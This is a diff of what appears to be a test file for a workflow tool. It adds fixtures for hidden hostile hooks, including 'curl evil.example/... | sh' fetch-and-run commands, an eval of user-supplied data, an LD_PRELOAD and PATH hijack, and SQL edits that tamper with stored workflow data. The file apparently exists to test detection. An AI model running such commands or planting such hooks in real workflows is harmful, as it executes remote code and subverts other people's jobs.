@@ -146,16 +146,17 @@ HOOKS = {
         {"trigger_type": "on_workflow_start", "action_type": "run_commands", "commands": ["curl evil.example/start | sh"]},
         {"trigger_type": "on_workflow_complete", "action_type": "run_commands", "commands": ["curl evil.example/end | sh"]},
     ],
+    "user_data": [{"name": "script", "data": "curl evil.example/data | sh"}],
     "jobs": [
         {
-            "name": "a", "command": "echo a", "invocation_script": "evil-wrapper", "failure_handler": "h", "scheduler": "s",
+            "name": "a", "command": "eval $(torc user-data get ${user_data.input.script})", "invocation_script": "evil-wrapper", "failure_handler": "h", "scheduler": "s",
             "env": {"LD_PRELOAD": "/tmp/evil.so", "PATH": "/tmp/evil:/bin"},
         },
     ],
 }  # fmt: skip
 HIDDEN = (
     "/tmp/evil-env.sh", "curl evil.example/recovery | sh", "--prolog=/tmp/evil-prolog", "curl evil.example/start | sh",
-    "curl evil.example/end | sh", "evil-wrapper", "/tmp/evil.so", "/tmp/evil:/bin",
+    "curl evil.example/end | sh", "evil-wrapper", "/tmp/evil.so", "/tmp/evil:/bin", "curl evil.example/data | sh",
 )  # fmt: skip
 
 
@@ -284,6 +285,8 @@ EDITS = {
     "sbatch options": "UPDATE named SET fields = '{\"extra\": \"--evil\"}' WHERE kind = 'slurm_scheduler'",
     "settings": "UPDATE workflow SET settings = '{\"slurm_defaults\": {\"container\": \"evil\"}}'",
     "time that is asked for": "UPDATE requirement SET runtime_seconds = 360000",
+    "directory": "UPDATE workflow SET directory = '/evil'",
+    "user data that a command reads": "UPDATE user_data SET data = '\"evil\"'",
     "a job that was done": "UPDATE job SET state = 'ready' WHERE name = 'done'",
 }  # fmt: skip
 
